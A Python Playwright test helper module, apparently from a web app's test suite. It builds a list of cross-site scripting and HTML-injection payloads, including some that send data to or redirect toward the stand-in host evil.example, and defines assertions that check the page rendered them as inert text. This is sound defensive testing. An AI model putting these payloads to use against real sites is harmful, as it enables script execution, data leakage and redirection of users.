"""Text that would like to be markup, a script or a link, and what shows that it became none."""

from __future__ import annotations

import re
from collections.abc import Iterable, Sequence

from playwright.sync_api import Locator, Page

HIT = "window.hits=(window.hits||0)+1"
ATTACKS = [
    *(
        frame.format(code)
        for code in (
            HIT,
            f"fetch(`https://evil.example/?`+({HIT}))",
            "document.location=`https://evil.example/`",
        )
        for frame in (
            "<script>{}</script>",
            "</script><script>{}</script>",
            "<img src=x onerror='{}'>",
            '<img src=x onerror="{}">',
            "<svg onload='{}'>",
            "<svg><script>{}</script></svg>",
            "<body onload='{}'>",
            "<details open ontoggle='{}'>x</details>",
            "<input autofocus onfocus='{}'>",
            "<a href='javascript:{}'>read</a>",
            "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
            "<iframe src='javascript:{}'></iframe>",
            "\" onmouseover='{}' x=\"",
            "' onfocus='{}' autofocus x='",
            "</p></blockquote></li><script>{}</script>",
            "<math><mtext><style><img src=x onerror='{}'></style></mtext></math>",
            "javascript:{}",
            "{{{{constructor.constructor('{}')()}}}}",
            "${{{}}}",
            "`;{};`",
            "<marquee onstart='{}'>x</marquee>",
            "<video><source onerror='{}'></video>",
            "[read](javascript:{})",
        )
    ),
    "![photo](https://evil.example/pixel.png)",
    "[![photo](https://evil.example/pixel.png)](https://evil.example)",
    "<img src=https://evil.example/pixel.png>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import url(https://evil.example/x.css);body{display:none}</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><button>Read</button></form>",
    "<object data=https://evil.example></object>",
    "<embed src=https://evil.example>",
    "<!-- <script>" + HIT + "</script> -->",
    "<b>unclosed <i>markup <table><td>",
    "data:text/html,<script>" + HIT + "</script>",
    "\u202egnp.elif‮ \u2066isolated\u2067 never closed",
    "&lt;script&gt;" + HIT + "&lt;/script&gt;",
    "<ScRiPt\n>" + HIT + "</sCrIpT>",
    "\x00<scr\x00ipt>" + HIT + "</script>",
]

FOURS = [" ".join(ATTACKS[first : first + 4]) for first in range(0, len(ATTACKS), 4)]
"""All of them in some twenty texts, for what shows many things, each of which takes its time."""

THIRDS = [" ".join(ATTACKS[first::3]) for first in range(3)]
"""All of them in three texts, for what shows few things at a time."""

WITH_ADDRESSES = """() => [...document.querySelectorAll("*")].flatMap(element =>
    ["href", "src", "srcset", "action", "formaction", "data", "poster", "xlink:href"]
        .filter(name => element.hasAttribute(name))
        .map(name => element.getAttribute(name))
        .filter(address => new URL(address, document.baseURI).origin !== window.location.origin))"""
"""Every address on a page that leads off its own host, wherever it stands."""


def undirected(text: str) -> str:
    """Text with single spaces, without NUL and without what changes its direction."""
    return " ".join(re.sub("[\u202a-\u202e\u2066-\u2069\0\ufffd]", "", text).split())


def shows(place: Locator, *texts: str) -> None:
    """All of these texts stand there as text."""
    there = undirected(place.inner_text())
    for wanted in map(undirected, texts):
        assert wanted in there, f"{wanted!r} is not in {there!r}"


def each_shows(places: Locator, texts: Sequence[str]) -> None:
    """The first place shows the first text, and so on; read all at once, since one by one each costs its way there."""
    for there, wanted in zip(map(undirected, places.all_inner_texts()), map(undirected, texts), strict=True):
        assert wanted in there, f"{wanted!r} is not in {there!r}"


def unharmed(page: Page, links: Iterable[str] = ()) -> None:
    """No script of an article's ran, nothing of its markup became an element; `links` alone lead to other hosts."""
    assert page.evaluate("window.hits") is None
    assert page.evaluate("document.location.hostname") == "127.0.0.1"
    assert sorted(set(page.evaluate(WITH_ADDRESSES))) == sorted(links)
    inside = "#thread, #follow, #articles, #drafts, #masthead, #examples, #notice, #reader"
    strange = (
        "script, img, iframe, svg:not(.chart svg), math, style, link, meta, base, object, embed, video, marquee, "
        "form:not(.verdict form, .add-form), b:not(.rejected b), i, input:not([type=checkbox], [type=date], "
        "[type=search], [type=file], .verdict input, .conversations input)"
    )
    found = (
        page.locator(inside)
        .locator(strange)
        .evaluate_all("all => all.map(one => one.outerHTML.slice(0, 200))")
    )
    assert found == []
    handlers = page.evaluate(
        "roots => roots.split(', ').flatMap(root => [...document.querySelectorAll(`${root} *`)])"
        ".filter(e => [...e.attributes].some(a => a.name.startsWith('on'))).map(e => e.outerHTML.slice(0, 200))",
        inside,
    )
    assert handlers == []
